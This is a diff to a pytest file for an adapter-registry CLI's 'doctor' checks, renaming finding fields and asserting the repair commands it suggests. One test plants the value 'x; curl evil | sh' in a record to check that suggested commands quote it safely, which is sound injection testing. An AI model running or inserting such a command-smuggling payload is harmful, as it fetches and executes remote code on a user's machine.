@@ -18,10 +18,10 @@ import pytest
 
 from tests.conftest import Result
 from tests.sound import add_sound, local_base
-from zoo.cli.doctor_checks.findings import BROKEN, WARNING, Finding
 from zoo.cli.doctor_checks.look import examine
 from zoo.registry.schema import SCHEMA, AdapterSpec, HubId
 from zoo.registry.store import Registry
+from zoo.runtime.checks import FAILED, WARNING, CheckResult
 from zoo.training.plan import plan
 
 Zoo = Callable[..., Result]
@@ -34,20 +34,20 @@ def home(registry: Registry, tiny_bert: Path) -> Registry:
     return registry
 
 
-def found(registry: Registry) -> list[Finding]:
-    return examine(registry, fast=True).findings
+def found(registry: Registry) -> list[CheckResult]:
+    return examine(registry, fast=True).results
 
 
-def the(registry: Registry) -> Finding:
-    findings = found(registry)
-    assert len(findings) == 1, findings
-    return findings[0]
+def the(registry: Registry) -> CheckResult:
+    results = found(registry)
+    assert len(results) == 1, results
+    return results[0]
 
 
-def mend(zoo: Zoo, finding: Finding) -> str:
+def fix(zoo: Zoo, result: CheckResult) -> str:
     """Type what it says, as a shell takes it, and return what was said to that."""
     said = ""
-    for part in finding.mend.split(" && "):
+    for part in result.fix.split(" && "):
         command, _, into = part.partition(" > ")
         words = shlex.split(command)
         if words[0] == "zoo":
@@ -82,33 +82,33 @@ def test_a_registry_that_cannot_be_read_is_rebuilt_and_its_adapters_are_looked_a
     home.path.write_bytes(content)
     (home.adapter_folder("mine") / "adapter_model.safetensors").unlink()
     registry, adapter = found(home)
-    assert registry.state == BROKEN
-    assert said in registry.what
-    assert "adapter_model.safetensors is gone" in adapter.what
-    mend(zoo, registry)
+    assert registry.status == FAILED
+    assert said in registry.detail
+    assert "adapter_model.safetensors is gone" in adapter.detail
+    fix(zoo, registry)
     assert home.path.read_bytes() == before
 
 
 def test_a_newer_registry_asks_for_a_newer_zoo(home: Registry) -> None:
     home.path.write_bytes(msgspec.json.encode({"schema": SCHEMA + 1, "adapters": []}))
-    assert "has schema" in the(home).what
-    assert the(home).mend == "pip install --upgrade adapter-zoo"
+    assert "has schema" in the(home).detail
+    assert the(home).fix == "pip install --upgrade adapter-zoo"
 
 
 def test_a_record_without_its_folder_is_trained_again_by_the_command_that_is_said(home: Registry) -> None:
     shutil.rmtree(home.adapter_folder("mine"))
-    finding = the(home)
-    assert finding.state == BROKEN
-    assert "its folder is gone" in finding.what
-    assert finding.mend.startswith(f"zoo rm --yes mine --registry {home.path} && zoo train lora bert-imdb ")
-    assert finding.mend.endswith(f"--name mine --registry {home.path}")
+    result = the(home)
+    assert result.status == FAILED
+    assert "its folder is gone" in result.detail
+    assert result.fix.startswith(f"zoo rm --yes mine --registry {home.path} && zoo train lora bert-imdb ")
+    assert result.fix.endswith(f"--name mine --registry {home.path}")
 
 
 def test_what_was_published_is_pulled_again_rather_than_trained(home: Registry) -> None:
     hub = HubId(repo="me/mine", revision="ab" * 20, url="u")
     home.replace(msgspec.structs.replace(home.get("mine"), hub=hub))
     shutil.rmtree(home.adapter_folder("mine"))
-    assert f"zoo pull me/mine@{'ab' * 20} --name mine" in the(home).mend
+    assert f"zoo pull me/mine@{'ab' * 20} --name mine" in the(home).fix
 
 
 def test_a_command_that_a_record_tells_is_never_what_is_to_be_typed(home: Registry) -> None:
@@ -116,8 +116,8 @@ def test_a_command_that_a_record_tells_is_never_what_is_to_be_typed(home: Regist
     spec = msgspec.structs.replace(home.get("mine").spec, data="x; curl evil | sh")
     home.replace(msgspec.structs.replace(home.get("mine"), command=evil, spec=spec))
     shutil.rmtree(home.adapter_folder("mine"))
-    assert "--data 'x; curl evil | sh'" in the(home).mend
-    assert ";" not in shlex.quote("").join(re.split(r"'[^']*'", the(home).mend))
+    assert "--data 'x; curl evil | sh'" in the(home).fix
+    assert ";" not in shlex.quote("").join(re.split(r"'[^']*'", the(home).fix))
 
 
 def test_a_folder_that_the_registry_does_not_have_is_entered_by_what_is_said(
@@ -125,10 +125,10 @@ def test_a_folder_that_the_registry_does_not_have_is_entered_by_what_is_said(
 ) -> None:
     before = home.path.read_bytes()
     home.path.write_bytes(b'{"adapters": {}, "schema": 1}')
-    finding = the(home)
-    assert finding.state == BROKEN
-    assert finding.where == str(home.adapter_folder("mine"))
-    mend(zoo, finding)
+    result = the(home)
+    assert result.status == FAILED
+    assert result.name == str(home.adapter_folder("mine"))
+    fix(zoo, result)
     assert home.path.read_bytes() == before
 
 
@@ -137,10 +137,10 @@ def test_a_lost_record_file_is_written_again_by_what_is_said(home: Registry, zoo
     before = path.read_bytes()
     for content in (None, b"{"):
         path.unlink() if content is None else path.write_bytes(content)
-        finding = the(home)
-        assert finding.state == BROKEN
-        assert "zoo.json" in finding.what
-        mend(zoo, finding)
+        result = the(home)
+        assert result.status == FAILED
+        assert "zoo.json" in result.detail
+        fix(zoo, result)
         assert path.read_bytes() == before
         assert found(home) == []
 
@@ -148,8 +148,8 @@ def test_a_lost_record_file_is_written_again_by_what_is_said(home: Registry, zoo
 def test_a_record_file_that_differs_is_named_with_the_fields_and_believed(home: Registry, zoo: Zoo) -> None:
     path = home.adapter_folder("mine") / "zoo.json"
     path.write_bytes(path.read_bytes().replace(b'"negative"', b'"bad"'))
-    assert the(home).what == "zoo.json and registry.json differ in labels"
-    mend(zoo, the(home))
+    assert the(home).detail == "zoo.json and registry.json differ in labels"
+    fix(zoo, the(home))
     assert home.get("mine").labels == ["bad", "positive"]
     assert found(home) == []
 
@@ -157,20 +157,20 @@ def test_a_record_file_that_differs_is_named_with_the_fields_and_believed(home: 
 def test_a_renamed_folder_gets_its_name_back(home: Registry, zoo: Zoo) -> None:
     home.adapter_folder("mine").rename(home.adapter_folder("yours"))
     gone, renamed = found(home)
-    assert "gone" in gone.what
-    assert renamed.what == "its zoo.json says it is 'mine'"
-    mend(zoo, renamed)
+    assert "gone" in gone.detail
+    assert renamed.detail == "its zoo.json says it is 'mine'"
+    fix(zoo, renamed)
     assert found(home) == []
 
 
 def test_a_folder_that_is_no_adapter_of_the_zoo_is_imported_or_removed(home: Registry) -> None:
     folder = home.adapter_folder("stray")
     folder.mkdir()
-    assert (the(home).state, the(home).mend) == (WARNING, f"rmdir {folder}")
+    assert (the(home).status, the(home).fix) == (WARNING, f"rmdir {folder}")
     (folder / "mine.txt").write_text("not to be lost", encoding="utf-8")
-    assert the(home).mend == f"mv {folder} {home.path.parent}"
+    assert the(home).fix == f"mv {folder} {home.path.parent}"
     (folder / "adapter_config.json").write_text("{}", encoding="utf-8")
-    assert the(home).mend.startswith(f"zoo import {folder}")
+    assert the(home).fix.startswith(f"zoo import {folder}")
 
 
 def test_an_unfinished_run_is_resumed_by_the_command_that_is_said(
@@ -186,10 +186,10 @@ def test_an_unfinished_run_is_resumed_by_the_command_that_is_said(
         patched.setattr("zoo.training.pipeline._save", stop)  # after the checkpoint of the last step
         done = zoo(*words, "-s", "r=4", "--limit", 8, "--eval-limit", 8, "--registry", home.path)
         assert "cut off" in done.err
-    finding = the(home)
-    assert finding.state == WARNING
-    assert "a run that has not finished, last written just now" in finding.what
-    assert mend(zoo, finding).count("resuming from checkpoint-") == 1
+    result = the(home)
+    assert result.status == WARNING
+    assert "a run that has not finished, last written just now" in result.detail
+    assert fix(zoo, result).count("resuming from checkpoint-") == 1
     assert home.get("run").spec.params["r"] == 4
     assert found(home) == []
 
@@ -202,8 +202,8 @@ def test_a_run_that_died_before_its_first_checkpoint_is_begun_again(
     work = home.work_folder("run")
     work.mkdir(parents=True)
     (work / "spec.json").write_bytes(msgspec.json.encode(plan(spec).spec))
-    assert "has no checkpoint" in the(home).what
-    mend(zoo, the(home))
+    assert "has no checkpoint" in the(home).detail
+    fix(zoo, the(home))
     assert home.get("run").spec.limit == 8
     assert found(home) == []
 
@@ -225,10 +225,10 @@ def test_what_a_killed_process_was_making_or_removing_is_found_and_what_a_living
             path.write_bytes(b"")
         removed = home.work_folder(f"removed-x-{pid}")
         removed.mkdir(parents=True)
-        findings = found(home)
-        assert len(findings) == number, findings
-        for finding in findings:
-            subprocess.run(shlex.split(finding.mend), check=True)
+        results = found(home)
+        assert len(results) == number, results
+        for result in results:
+            subprocess.run(shlex.split(result.fix), check=True)
         shutil.rmtree(removed, ignore_errors=True)
         for path in temporary:
             path.unlink(missing_ok=True)
@@ -239,14 +239,14 @@ def test_what_lies_half_made_is_left_alone_while_somebody_may_be_at_work_on_it(h
     folder.mkdir(parents=True)
     assert found(home) == []
     os.utime(folder, (time.time() - 7200,) * 2)
-    assert the(home).what == "half made and left, last written 2 hours ago"
+    assert the(home).detail == "half made and left, last written 2 hours ago"
 
 
 @pytest.mark.skipif(os.name == "nt", reason="flock")
 def test_a_held_lock_is_said_and_a_free_one_is_nothing(home: Registry) -> None:
     assert home.path.with_name("registry.json.lock").exists()
     with home._writing():
-        assert "another process is writing" in the(home).what
+        assert "another process is writing" in the(home).detail
     assert found(home) == []
 
 
